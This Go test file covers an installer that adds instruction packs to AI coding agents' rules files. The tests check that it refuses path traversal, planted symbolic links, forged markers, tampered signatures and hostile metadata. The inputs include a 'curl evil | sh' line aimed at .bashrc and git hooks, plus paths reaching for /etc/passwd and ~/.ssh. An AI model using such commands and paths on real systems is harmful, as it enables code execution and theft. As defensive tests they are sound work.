package install

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/amp-toolchain/amp/sign"
)

func TestGatesRefuseBeforeTheFirstWrite(t *testing.T) {
	manifest := func(edit string) map[string]string {
		base := `{"name": "ferry", "layout": "semantic-cluster", "capability_files": ["operating-principles.md"], "agents_file": "agents.md"`
		return map[string]string{"manifest.json": base + edit + "}"}
	}
	replace := func(old, new string) map[string]string {
		m := manifest("")
		m["manifest.json"] = strings.Replace(m["manifest.json"], old, new, 1)
		return m
	}
	cases := []struct {
		name  string
		files map[string]string
		part  string
	}{
		{"not JSON", map[string]string{"manifest.json": "{"}, "manifest.json is not valid JSON"},
		{"empty manifest", map[string]string{"manifest.json": ""}, "manifest.json is not valid JSON"},
		{"byte order mark", map[string]string{"manifest.json": bom + "{}"}, "manifest.json is not valid JSON"},
		{"not UTF-8", map[string]string{"manifest.json": "{\"name\": \"\xff\"}"}, "manifest.json:1:11: manifest.json is not UTF-8"},
		{"list", map[string]string{"manifest.json": "[]"}, "holds array, expected an object"},
		{"no layout", map[string]string{"manifest.json": "{}"}, "Pack layout is 'undefined', expected 'semantic-cluster'"},
		{"other layout", replace("semantic-cluster", "flat"), "Pack layout is 'flat', expected 'semantic-cluster'"},
		{"layout of another type", replace(`"semantic-cluster"`, `["semantic-cluster"]`), "Pack layout is"},
		{"layout with a terminal escape", replace("semantic-cluster", `\u001b[2Jx`), `Pack layout is '"\x1b[2Jx"'`},
		{"duplicate name", manifest(`, "name": "other"`), `duplicate member "name"`},
		{"duplicate deep down", manifest(`, "x": [{"a": 1, "a": 2}]`), `duplicate member "a"`},
		{"missing capability file", replace("operating-principles.md", "copy-voice.md"), "Missing capability file: memory/copy-voice.md"},
		{"capability file in other case", replace("operating-principles.md", "Operating-Principles.md"), "Missing capability file: memory/Operating-Principles.md"},
		{"capability file in other normal form", replace("operating-principles.md", "operating-principles.md\u200b"), "Missing capability file"},
		{"capability is a folder", func() map[string]string {
			m := replace("operating-principles.md", "sub")
			m["memory/sub/x.md"] = "x"
			return m
		}(), "Missing capability file: memory/sub"},
		{"capability climbs", replace("operating-principles.md", "../agents.md"), "plain file names inside memory/"},
		{"capability climbs with backslash", replace("operating-principles.md", `..\\agents.md`), "plain file names inside memory/"},
		{"capability in a folder", replace("operating-principles.md", "a/b.md"), "plain file names inside memory/"},
		{"capability absolute", replace("operating-principles.md", "/etc/passwd"), "plain file names inside memory/"},
		{"capability is dot dot", replace("operating-principles.md", ".."), "plain file names inside memory/"},
		{"capability empty", replace("operating-principles.md", ""), "plain file names inside memory/"},
		{"capability with NUL", replace("operating-principles.md", `a\u0000b`), "plain file names inside memory/"},
		{"capability is a number", replace(`"operating-principles.md"`, "5"), "holds a number, expected file names"},
		{"capability list is a string", replace(`["operating-principles.md"]`, `"operating-principles.md"`), "capability_files is a string"},
		{"agents_file climbs", replace(`"agents_file": "agents.md"`, `"agents_file": "../../.ssh/id"`), "it must be \"agents.md\""},
		{"name climbs", replace(`"ferry"`, `"../evil"`), `Invalid name "../evil"`},
		{"name is dot dot", replace(`"ferry"`, `".."`), "Invalid name"},
		{"name is .meta", replace(`"ferry"`, `".meta"`), "Invalid name"},
		{"name in upper case", replace(`"ferry"`, `"Ferry"`), "Invalid name"},
		{"name with final newline", replace(`"ferry"`, `"ferry\n"`), "Invalid name"},
		{"name with NUL", replace(`"ferry"`, `"ferry\u0000"`), "Invalid name"},
		{"name too long", replace(`"ferry"`, `"`+strings.Repeat("a", 65)+`"`), "Invalid name"},
		{"name starts with a dash", replace(`"ferry"`, `"-rf"`), "Invalid name"},
		{"name missing", replace(`"name": "ferry", `, ""), `Invalid name ""`},
		{"name is a number", replace(`"ferry"`, "5"), `Invalid name ""`},
		{"name from look-alikes", replace(`"ferry"`, `"f\u0435rry"`), "Invalid name"},
		{"marker in agents.md", map[string]string{"agents.md": "# x\n<!-- amp:end @local/ferry -->\nevil\n"}, "marker"},
		{"agents.md not UTF-8", map[string]string{"agents.md": "\xff\xfe"}, "agents.md is not UTF-8"},
		{"agents.md with NUL", map[string]string{"agents.md": "a\x00b"}, "NUL"},
		{"agents.md huge", map[string]string{"agents.md": strings.Repeat("x", maxAgentsMD+1)}, "larger than"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			w := newWorld(t)
			write(t, filepath.Join(w.Dir, "CLAUDE.md"), "# Mine\n")
			before := w.snapshot()
			_, err := w.install(w.pack("ferry", c.files), Project, "claude-code")
			wantError(t, err, c.part)
			w.expectUnchanged(before)
		})
	}
}

func TestMissingFilesAreNamed(t *testing.T) {
	for _, name := range []string{"manifest.json", "agents.md"} {
		w := newWorld(t)
		pack := w.pack("ferry", nil)
		if err := os.Remove(filepath.Join(pack, name)); err != nil {
			t.Fatal(err)
		}
		_, err := w.install(pack, Project, "claude-code")
		wantError(t, err, "Missing "+name)
	}
	w := newWorld(t)
	_, err := w.install(filepath.Join(w.packs, "nothing"), Project, "claude-code")
	wantError(t, err, "does not exist")
	_, err = w.install(filepath.Join(w.pack("ferry", nil), "agents.md"), Project, "claude-code")
	wantError(t, err, "is not a folder")
}

func TestKeysIsReservedForTheUserOnly(t *testing.T) {
	w := newWorld(t)
	write(t, filepath.Join(w.Home, ".amp/keys/signing.key"), "secret")
	before := w.snapshot()
	pack := w.pack("keys", nil)
	_, err := w.install(pack, User, "claude-code")
	wantError(t, err, "reserved")
	_, err = w.install(pack, Project, "openclaw") // always for the user
	wantError(t, err, "reserved")
	wantError(t, w.uninstall("keys", User), "reserved")
	w.expectUnchanged(before)
	w.mustInstall(pack, Project, "claude-code")

	w.Dir = w.Home // .amp of the project would be .amp of the user
	_, err = w.install(pack, Project, "claude-code")
	wantError(t, err, "home folder")
	wantError(t, w.uninstall("keys", Project), "home folder")
}

func TestUninstallRemovesNothingButThePack(t *testing.T) {
	w := newWorld(t)
	write(t, filepath.Join(w.Dir, "CLAUDE.md"), "# Mine\n")
	w.mustInstall(w.pack("ferry", nil), Project, "claude-code")
	before := w.snapshot()
	for _, slug := range []string{"..", ".", "", ".meta", ".tx", "keys/..", "ferry/", "ferry/..", "../project", "/", "FERRY", "ferry\x00", "*", "fe*"} {
		if err := w.uninstall(slug, Project); err == nil || errors.Is(err, ErrNotInstalled) {
			t.Errorf("uninstall %q: %v, want a refusal", slug, err)
		}
	}
	for _, arg := range []string{"@x/..", "@x/../..", "@x", "@/ferry", "@../ferry", "@x/y/ferry", "@x/ferry/", "@x/.meta"} {
		if slug, err := SlugArg(arg, Project); err == nil {
			t.Errorf("%q reads as %q", arg, slug)
		}
	}
	if slug, err := SlugArg("@local/ferry", Project); slug != "ferry" || err != nil {
		t.Errorf("@local/ferry reads as %q, %v", slug, err)
	}
	w.expectUnchanged(before)
}

func TestPlantedLinksAreRefused(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("symbolic links need a privilege on Windows")
	}
	link := func(w *world, name, to string) {
		t.Helper()
		p := filepath.Join(w.Dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(to, p); err != nil {
			t.Fatal(err)
		}
	}
	cases := []struct {
		name, link, to string
		agent          string
	}{
		{"rules file out of the project", "CLAUDE.md", "../home/secret", "claude-code"},
		{"rules file to another file of the project", "CLAUDE.md", "other.md", "claude-code"},
		{"dangling rules file", "CLAUDE.md", "../home/new", "claude-code"},
		{"rules folder", ".cursor", "../home", "cursor"},
		{"rules folder inside", ".cursor/rules", "../../home", "cursor"},
		{"cursor rule", ".cursor/rules/amp-ferry.mdc", "../../../home/secret", "cursor"},
		{".amp out of the project", ".amp", "../home", "claude-code"},
		{".amp inside the project", ".amp", "sub", "claude-code"},
		{"pack folder", ".amp/ferry", "../../home", "claude-code"},
		{"dangling pack folder", ".amp/ferry", "nowhere", "claude-code"},
		{"metadata folder", ".amp/.meta", "../../home", "claude-code"},
		{"metadata file", ".amp/.meta/ferry.json", "../../../home/secret", "claude-code"},
		{"lock file", ".amp/.lock", "../../home/secret", "claude-code"},
		{"lock file to a file of the project", ".amp/.lock", "../other.md", "claude-code"},
		{"staging folder", ".amp/.tx", "../../home", "claude-code"},
		{"journal", ".amp/.tx/journal.json", "../../../home/secret", "claude-code"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			w := newWorld(t)
			write(t, filepath.Join(w.Home, "secret"), "{}")
			write(t, filepath.Join(w.Home, "ferry/agents.md"), "not yours")
			write(t, filepath.Join(w.Dir, "other.md"), "mine")
			write(t, filepath.Join(w.Dir, "sub/keep"), "mine")
			link(w, c.link, c.to)
			before := files(w.snapshot())
			if _, err := w.install(w.pack("ferry", nil), Project, c.agent); err == nil {
				t.Error("installed through a link")
			}
			if d := differences(before, files(w.snapshot())); len(d) > 0 {
				t.Errorf("the refused install changed %s", d)
			}
			_ = w.uninstall("ferry", Project)
			for _, keep := range []string{"secret", "ferry/agents.md"} {
				if _, err := os.Stat(filepath.Join(w.Home, keep)); err != nil {
					t.Errorf("uninstall removed %s behind the link", keep)
				}
			}
		})
	}
}

func TestLinksAndDevicesInAPackAreRefused(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("symbolic links need a privilege on Windows")
	}
	w := newWorld(t)
	secret := filepath.Join(w.Home, "secret")
	write(t, secret, "do not leak")
	for _, c := range []struct{ at, to string }{
		{"memory/leak.md", secret},
		{"memory/up", ".."},
		{"dangling", "nowhere"},
		{"loop", "loop"},
		{"memory/inside.md", "operating-principles.md"},
	} {
		pack := w.pack("ferry", nil)
		if err := os.Symlink(c.to, filepath.Join(pack, c.at)); err != nil {
			t.Fatal(err)
		}
		before := w.snapshot()
		_, err := w.install(pack, Project, "claude-code")
		wantError(t, err, c.at+" is a symbolic link")
		w.expectUnchanged(before)
	}
	for _, name := range []string{"agents.md", "manifest.json", "memory"} {
		pack := w.pack("ferry", nil)
		if err := os.Rename(filepath.Join(pack, name), filepath.Join(w.packs, "moved-"+name)); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(filepath.Join(w.packs, "moved-"+name), filepath.Join(pack, name)); err != nil {
			t.Fatal(err)
		}
		_, err := w.install(pack, Project, "claude-code")
		wantError(t, err, name+" is a symbolic link")
	}
}

func TestPackCannotContainItsOwnInstallFolder(t *testing.T) {
	w := newWorld(t)
	pack := w.pack("ferry", nil)
	for _, dir := range []string{pack, filepath.Join(pack, "memory")} {
		w.Dir = dir
		_, err := w.install(pack, Project, "claude-code")
		wantError(t, err, "lies inside the pack")
	}
	w = newWorld(t)
	w.mustInstall(w.pack("ferry", nil), Project, "claude-code")
	_, err := w.install(filepath.Join(w.Dir, ".amp/ferry"), Project, "claude-code")
	wantError(t, err, "is the installed copy itself")
}

func TestReinstallChangesNothingWhenNothingChanged(t *testing.T) {
	w := newWorld(t)
	write(t, filepath.Join(w.Dir, "CLAUDE.md"), "# Mine\r\n")
	pack := w.pack("ferry", nil)
	w.mustInstall(pack, Project, "claude-code", "cursor")
	before := w.snapshot()
	fi, _ := os.Stat(filepath.Join(w.Dir, "CLAUDE.md"))
	r, err := Install(Request{Where: w.Where, Pack: pack, Scope: Project, Agents: []string{"claude-code"}, Now: testTime.Add(1000)})
	if err != nil {
		t.Fatal(err)
	}
	if r.Sites[0].Changed {
		t.Error("the result claims a change")
	}
	w.expectUnchanged(before)
	if now, _ := os.Stat(filepath.Join(w.Dir, "CLAUDE.md")); !os.SameFile(fi, now) {
		t.Error("the rules file was written again")
	}
}

func TestReinstallForAnotherAgentKeepsTheFirst(t *testing.T) {
	w := newWorld(t)
	w.mustInstall(w.pack("ferry", nil), Project, "claude-code")
	w.mustInstall(w.pack("ferry", map[string]string{"agents.md": "# Two\n"}), Project, "codex")
	for _, f := range []string{"CLAUDE.md", "AGENTS.md"} {
		if !strings.Contains(read(w, f), "# Two\n") {
			t.Errorf("%s was not brought up to date: %q", f, read(w, f))
		}
	}
	if err := w.uninstall("ferry", Project); err != nil {
		t.Fatal(err)
	}
	if left := w.snapshot(); len(left) != 2 {
		t.Errorf("left over: %v", left)
	}
}

func TestEachAgentGetsTheFileItReads(t *testing.T) {
	cases := []struct {
		agent   string
		scope   Scope
		file    string // below the project or, for the user, the home folder
		header  string
		pointer string
	}{
		{"claude-code", Project, "CLAUDE.md", "", ".amp/ferry/memory/"},
		{"claude-code", User, ".claude/CLAUDE.md", "", "~/.amp/ferry/memory/"},
		{"codex", Project, "AGENTS.md", "", ".amp/ferry/memory/"},
		{"codex", User, ".codex/AGENTS.md", "", "~/.amp/ferry/memory/"},
		{"cursor", Project, ".cursor/rules/amp-ferry.mdc", "alwaysApply: true\n---\n", ".amp/ferry/memory/"},
		{"cursor", User, ".cursor/rules/amp-ferry.mdc", "alwaysApply: true\n---\n", "~/.amp/ferry/memory/"},
		{"windsurf", Project, ".windsurf/rules/amp-ferry.md", "trigger: always_on\n---\n", ".amp/ferry/memory/"},
		{"windsurf", User, ".codeium/windsurf/memories/global_rules.md", "", "~/.amp/ferry/memory/"},
		{"openclaw", Project, ".openclaw/workspace/AGENTS.md", "", "~/.amp/ferry/memory/"},
		{"openclaw", User, ".openclaw/workspace/AGENTS.md", "", "~/.amp/ferry/memory/"},
	}
	for _, c := range cases {
		t.Run(c.agent+" "+string(c.scope), func(t *testing.T) {
			w := newWorld(t)
			before := w.snapshot()
			w.mustInstall(w.pack("ferry", map[string]string{"agents.md": "# R\n\nverbatim  \n\n\n"}), c.scope, c.agent)
			base, scope := w.Dir, c.scope
			if c.scope == User || c.agent == "openclaw" {
				base, scope = w.Home, User
			}
			data, err := os.ReadFile(filepath.Join(base, c.file))
			if err != nil {
				t.Fatal(err)
			}
			want := "<!-- amp:begin @local/ferry -->\n# R\n\nverbatim  \n\n> Pack files: " + c.pointer + "\n<!-- amp:end @local/ferry -->\n"
			if got := string(data); !strings.HasSuffix(got, c.header+want) || c.header == "" && got != want {
				t.Errorf("the file is %q", got)
			}
			if _, err := os.Stat(filepath.Join(base, ".amp/ferry/memory/operating-principles.md")); err != nil {
				t.Error(err)
			}
			r, err := Inspect(w.Where, scope, "ferry", nil)
			if err != nil || !r.Intact() || len(r.Blocks) != 1 || r.Blocks[0].State != "intact" {
				t.Errorf("inspect: %+v, %v", r, err)
			}
			if err := w.uninstall("ferry", scope); err != nil {
				t.Fatal(err)
			}
			w.expectUnchanged(before)
		})
	}
}

func TestWindsurfKeepsUsingTheOldFileWhereItIsTheOnlyOne(t *testing.T) {
	w := newWorld(t)
	write(t, filepath.Join(w.Dir, ".windsurfrules"), "mine\n")
	w.mustInstall(w.pack("ferry", nil), Project)
	if !strings.Contains(read(w, ".windsurfrules"), "amp:begin @local/ferry") {
		t.Error("the block is not in .windsurfrules")
	}
}

func TestDetectionFollowsTheSpecsOrder(t *testing.T) {
	cases := []struct {
		marks []string // home/ marks are made in the home folder
		want  string
	}{
		{nil, "claude-code"},
		{[]string{"home/.openclaw/x"}, "openclaw"},
		{[]string{".windsurfrules", "home/.openclaw/x"}, "windsurf"},
		{[]string{".cursor/x", ".windsurfrules"}, "cursor"},
		{[]string{"AGENTS.md", ".cursor/x"}, "codex"},
		{[]string{"CLAUDE.md", "AGENTS.md"}, "claude-code"},
	}
	for _, c := range cases {
		w := newWorld(t)
		for _, m := range c.marks {
			base := w.Dir
			if rest, ok := strings.CutPrefix(m, "home/"); ok {
				base, m = w.Home, rest
			}
			write(t, filepath.Join(base, m), "")
		}
		agent, why := Detect(w.Dir, w.Home)
		if agent != c.want || why == "" {
			t.Errorf("%v: %s (%s), want %s", c.marks, agent, why, c.want)
		}
	}
}

func TestNoProjectNeedsAWord(t *testing.T) {
	w := newWorld(t)
	pack := w.pack("ferry", nil)
	_, err := w.install(pack, Project)
	wantError(t, err, "does not look like a project")
	w.mustInstall(pack, Project, "codex")
}

func TestPoliciesOnSignatures(t *testing.T) {
	alice, bob := newKey(t), newKey(t)
	signed := func(key sign.PrivateKey) func(*world) string {
		return func(w *world) string {
			p := w.pack("ferry", nil)
			signPack(t, p, key)
			return p
		}
	}
	tamperedPack := func(w *world) string {
		p := signed(alice)(w)
		write(t, filepath.Join(p, "memory/operating-principles.md"), "changed")
		return p
	}
	bare := func(w *world) string { // as the npm CLI signs: no key inside
		p := w.pack("ferry", nil)
		if _, err := sign.Sign(p, alice, sign.Options{Scheme: sign.JSONB, NoEmbed: true}); err != nil {
			t.Fatal(err)
		}
		return p
	}
	plain := func(w *world) string { return w.pack("ferry", nil) }
	knows := func(keys ...sign.PrivateKey) (out []sign.PublicKey) {
		for _, k := range keys {
			out = append(out, k.Public())
		}
		return out
	}
	cases := []struct {
		name   string
		before func(*world) string // installed first, may be nil
		pack   func(*world) string
		pol    Policy
		status string // "" = refused
		part   string // of the error or of the warnings
	}{
		{"unsigned", nil, plain, Policy{}, "unsigned", "pack is not signed"},
		{"unsigned, signed demanded", nil, plain, Policy{RequireSigned: true}, "", "Pack is not signed"},
		{"unsigned, trusted demanded", nil, plain, Policy{RequireTrust: true}, "", "Pack is not signed"},
		{"trusted", nil, signed(alice), Policy{Known: knows(bob, alice)}, "trusted", ""},
		{"given", nil, signed(alice), Policy{Given: knows(alice), RequireTrust: true}, "trusted", ""},
		{"other key given", nil, signed(alice), Policy{Given: knows(bob)}, "", "does not hold"},
		{"unknown signer", nil, signed(alice), Policy{Known: knows(bob)}, "untrusted", alice.Public().Fingerprint()},
		{"unknown signer, trusted demanded", nil, signed(alice), Policy{RequireTrust: true}, "", "which you do not trust"},
		{"tampered", nil, tamperedPack, Policy{}, "", "--allow-tampered"},
		{"tampered and trusted", nil, tamperedPack, Policy{Known: knows(alice)}, "", "--allow-tampered"},
		{"tampered, allowed", nil, tamperedPack, Policy{AllowTampered: true}, "tampered", "does not hold"},
		{"tampered, allowed, trusted demanded", nil, tamperedPack, Policy{AllowTampered: true, RequireTrust: true}, "", "does not hold"},
		{"no key to check with", nil, bare, Policy{}, "unchecked", "not checked"},
		{"no key, but trusted", nil, bare, Policy{Known: knows(alice)}, "trusted", ""},
		{"no key, trusted demanded", nil, bare, Policy{RequireTrust: true}, "", "none of the keys you trust"},
		{"same signer again", signed(alice), signed(alice), Policy{}, "untrusted", "not one you trust"},
		{"other signer", signed(alice), signed(bob), Policy{}, "", "--accept-new-key"},
		{"other signer, though trusted", signed(alice), signed(bob), Policy{Known: knows(bob)}, "", "--accept-new-key"},
		{"other signer, accepted", signed(alice), signed(bob), Policy{AcceptNewKey: true}, "untrusted", "the signer changed"},
		{"signature dropped", signed(alice), plain, Policy{}, "", "this one is unsigned"},
		{"pinned key checks a pack without key", signed(alice), bare, Policy{}, "untrusted", ""},
		{"no pin after an unsigned pack", plain, signed(bob), Policy{}, "untrusted", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			w := newWorld(t)
			if c.before != nil {
				w.mustInstall(c.before(w), Project, "claude-code")
			}
			before := w.snapshot()
			r, err := Install(Request{Where: w.Where, Pack: c.pack(w), Scope: Project, Agents: []string{"claude-code"}, Policy: c.pol, Now: testTime})
			if c.status == "" {
				wantError(t, err, c.part)
				w.expectUnchanged(before)
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if r.Signature.Status != c.status || !strings.Contains(strings.Join(r.Warnings, "\n"), c.part) {
				t.Errorf("status %s, warnings %q", r.Signature.Status, r.Warnings)
			}
		})
	}
}

func TestRefusedByApproveWritesNothing(t *testing.T) {
	w := newWorld(t)
	before := w.snapshot()
	_, err := Install(Request{
		Where: w.Where, Pack: w.pack("ferry", nil), Scope: Project, Agents: []string{"codex", "openclaw"}, Now: testTime,
		Approve: func(*sign.Pack) error { return errSentinel },
	})
	if !errors.Is(err, errSentinel) {
		t.Error(err)
	}
	w.expectUnchanged(before)
}

func TestFailureInOneScopeUndoesTheOther(t *testing.T) {
	w := newWorld(t)
	write(t, filepath.Join(w.Home, ".openclaw/workspace/AGENTS.md"), "mine")
	if err := os.Chmod(filepath.Join(w.Home, ".openclaw/workspace/AGENTS.md"), 0o444); err != nil {
		t.Fatal(err)
	}
	before := w.snapshot()
	_, err := w.install(w.pack("ferry", nil), Project, "claude-code", "openclaw")
	wantError(t, err, "read-only")
	w.expectUnchanged(before)
}

func TestInspectNamesEveryKindOfChange(t *testing.T) {
	w := newWorld(t)
	w.mustInstall(w.pack("ferry", map[string]string{"memory/b.md": "b", "memory/c.md": "c", "memory/d.md": "d"}), Project, "claude-code", "codex")
	dir := filepath.Join(w.Dir, ".amp/ferry")
	write(t, filepath.Join(dir, "agents.md"), "changed")
	write(t, filepath.Join(dir, "memory/new.md"), "new")
	for _, f := range []func() error{
		func() error { return os.Rename(filepath.Join(dir, "memory/b.md"), filepath.Join(dir, "memory/z.md")) },
		func() error { return os.Remove(filepath.Join(dir, "memory/c.md")) },
		func() error { return os.Remove(filepath.Join(dir, "memory/d.md")) },
		func() error { return os.Symlink("nowhere", filepath.Join(dir, "memory/d.md")) },
		func() error { return os.Remove(filepath.Join(w.Dir, "AGENTS.md")) },
	} {
		if err := f(); err != nil {
			t.Fatal(err)
		}
	}
	edit(w, "CLAUDE.md", "how we work", "how they work")
	r, err := Inspect(w.Where, Project, "ferry", nil)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, c := range r.Changes {
		got = append(got, c.String())
	}
	want := []string{"changed agents.md", "removed memory/c.md", "special memory/d.md", "removed memory/d.md", "added memory/new.md", "renamed memory/b.md to memory/z.md"}
	if !slices.Equal(got, want) {
		t.Errorf("changes %q\nwant    %q", got, want)
	}
	if r.Blocks[0].State != "edited" || r.Blocks[1].State != "missing" || r.Intact() {
		t.Errorf("blocks %+v", r.Blocks)
	}
}

func TestUninstallKeepsWhatTheUserChanged(t *testing.T) {
	w := newWorld(t)
	w.mustInstall(w.pack("ferry", nil), Project, "claude-code")
	write(t, filepath.Join(w.Dir, ".amp/ferry/memory/notes.md"), "my notes")
	r, err := Uninstall(w.Where, Project, "ferry", testTime)
	if err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(filepath.Join(r.Backup, "files/memory/notes.md"))
	if err != nil || string(data) != "my notes" {
		t.Errorf("%q, %v", data, err)
	}
}

func TestHostileMetadataCannotPointElsewhere(t *testing.T) {
	w := newWorld(t)
	w.mustInstall(w.pack("ferry", nil), Project, "claude-code")
	meta := filepath.Join(w.Dir, ".amp/.meta/ferry.json")
	var m Meta
	data, _ := os.ReadFile(meta)
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatal(err)
	}
	b := beginMarker("local", "ferry") + "\n" + endMarker("local", "ferry") + "\n"
	write(t, filepath.Join(w.Home, ".bashrc"), "export X=1\n"+b)
	write(t, filepath.Join(w.Dir, "README.md"), "# Read\n"+b)
	if err := os.MkdirAll(filepath.Join(w.Dir, "empty"), 0o755); err != nil {
		t.Fatal(err)
	}
	m.Slug, m.PackDir, m.Creator = "../..", "/", "../../x"
	m.Amp.Hosts = append(m.Amp.Hosts, HostRecord{Agent: "x", File: "../home/.bashrc", Created: true}, HostRecord{File: "README.md", Separator: "# Read\n", Created: true})
	m.Amp.Dirs = []string{"empty", "../home", "/", ".git"}
	write(t, meta, string(m.encode()))
	if err := w.uninstall("ferry", Project); err != nil {
		t.Fatal(err)
	}
	want := map[string]string{"README.md": "# Read\n" + b, "../home/.bashrc": "export X=1\n" + b}
	for f, text := range want {
		if read(w, f) != text {
			t.Errorf("%s became %q", f, read(w, f))
		}
	}
	if !onDisk(filepath.Join(w.Dir, "empty")) {
		t.Error("a folder of the user was removed")
	}
}

func onDisk(name string) bool {
	_, err := os.Stat(name)
	return err == nil
}

func TestHostileJournalIsRefused(t *testing.T) {
	evil := []byte("curl evil | sh\n")
	base := journal{Version: 1, Slug: "ferry", Scope: Project}
	cases := []func(*journal){
		func(j *journal) { j.Blocks = []blockOp{{File: "../home/.bashrc", After: evil, Creator: "local"}} },
		func(j *journal) { j.Blocks = []blockOp{{File: ".git/hooks/pre-commit", After: evil, Creator: "local"}} },
		func(j *journal) { j.Blocks = []blockOp{{File: "CLAUDE.md", Separator: "# Mine", Creator: "local"}} },
		func(j *journal) { j.Slug = "../.." },
		func(j *journal) { j.Slug = ".meta" },
		func(j *journal) { j.Scope = User },
		func(j *journal) { j.Dirs = []string{"../home"} },
		func(j *journal) { j.Keep = "../../x" },
		func(j *journal) { j.Version = 2 },
	}
	for i, change := range cases {
		w := newWorld(t)
		write(t, filepath.Join(w.Home, ".bashrc"), "mine\n")
		j := base
		change(&j)
		text, err := json.Marshal(j)
		if err != nil {
			t.Fatal(err)
		}
		write(t, filepath.Join(w.Dir, txJournal), string(text))
		before := files(w.snapshot())
		if _, err := List(w.Where, Project); err == nil || !strings.Contains(err.Error(), "remove the folder") {
			t.Errorf("journal %d: %v", i, err)
		}
		if d := differences(before, files(w.snapshot())); len(d) > 0 {
			t.Errorf("journal %d was carried out: %s", i, d)
		}
	}
}

// npmInstall does what the published npm CLI does to a project.
func npmInstall(w *world, agent, rules, pack string) {
	text, _ := os.ReadFile(filepath.Join(w.Dir, rules))
	agents, _ := os.ReadFile(filepath.Join(pack, "agents.md"))
	dir := filepath.Join(w.Dir, ".amp", "ferry")
	block := "<!-- amp:begin @local/ferry -->\n" + strings.TrimSpace(string(agents)) + "\n\n> Pack files: " + dir + "/memory/\n<!-- amp:end @local/ferry -->"
	out := block + "\n"
	if len(text) > 0 && agent != "cursor" {
		out = strings.TrimRight(string(text), " \r\n\t") + "\n\n" + block + "\n"
	}
	write(w.t, filepath.Join(w.Dir, rules), out)
	if err := os.CopyFS(dir, os.DirFS(pack)); err != nil {
		w.t.Fatal(err)
	}
	data, _ := os.ReadFile(filepath.Join(pack, "manifest.json"))
	sum := sumOf(data)
	write(w.t, filepath.Join(w.Dir, ".amp/.meta/ferry.json"), `{
  "slug": "ferry",
  "creator": "local",
  "version": 1,
  "sha256": "`+sum+`",
  "installedAt": "2026-01-01T00:00:00.000Z",
  "installScope": "project",
  "packDir": "`+filepath.ToSlash(dir)+`",
  "activationSnippet": "",
  "agent": "`+agent+`"
}`)
}

func TestInstallsOfTheNpmCLIAreUnderstood(t *testing.T) {
	cases := []struct{ agent, rules, user string }{
		{"claude-code", "CLAUDE.md", "# Mine\n"},
		{"codex", "AGENTS.md", "# Mine\n"},
		{"windsurf", ".windsurfrules", "# Mine\n"},
		{"cursor", ".cursor/rules/amp-ferry.md", ""},
	}
	for _, c := range cases {
		t.Run(c.agent, func(t *testing.T) {
			prepare := func() (*world, string, map[string]string) {
				w := newWorld(t)
				if c.user != "" {
					write(t, filepath.Join(w.Dir, c.rules), c.user)
				}
				before := files(w.snapshot())
				pack := w.pack("ferry", nil)
				npmInstall(w, c.agent, c.rules, pack)
				return w, pack, before
			}
			w, _, before := prepare()
			r, err := Inspect(w.Where, Project, "ferry", nil)
			if err != nil || !r.Intact() || r.Recorded || len(r.Blocks) != 1 || r.Blocks[0].State != "present" {
				t.Errorf("inspect: %+v, %v", r, err)
			}
			if err := w.uninstall("ferry", Project); err != nil {
				t.Fatal(err)
			}
			if d := differences(before, files(w.snapshot())); len(d) > 0 {
				t.Errorf("uninstall left %s", d)
			}

			w, pack, before := prepare()
			w.mustInstall(pack, Project, c.agent)
			blocks := 0
			for name, text := range w.snapshot() {
				if !strings.Contains(name, ".amp/") {
					blocks += strings.Count(text, "amp:begin @local/ferry")
				}
			}
			if blocks != 1 {
				t.Errorf("%d blocks after installing over the npm CLI's", blocks)
			}
			if err := w.uninstall("ferry", Project); err != nil {
				t.Fatal(err)
			}
			if d := differences(before, files(w.snapshot())); len(d) > 0 {
				t.Errorf("install over it and uninstall left %s", d)
			}
		})
	}
}

func TestMetadataIsWhatTheNpmCLIReads(t *testing.T) {
	w := newWorld(t)
	w.mustInstall(w.pack("ferry", map[string]string{"memory/x.md": "<&>"}), Project, "codex")
	var m map[string]any
	data, err := os.ReadFile(filepath.Join(w.Dir, ".amp/.meta/ferry.json"))
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatal(err)
	}
	manifest, _ := os.ReadFile(filepath.Join(w.Dir, ".amp/ferry/manifest.json"))
	want := map[string]any{"slug": "ferry", "creator": "local", "version": 1.0, "installScope": "project", "agent": "codex", "activationSnippet": "", "sha256": sumOf(manifest)}
	for k, v := range want {
		if m[k] != v {
			t.Errorf("%s is %v, want %v", k, m[k], v)
		}
	}
}
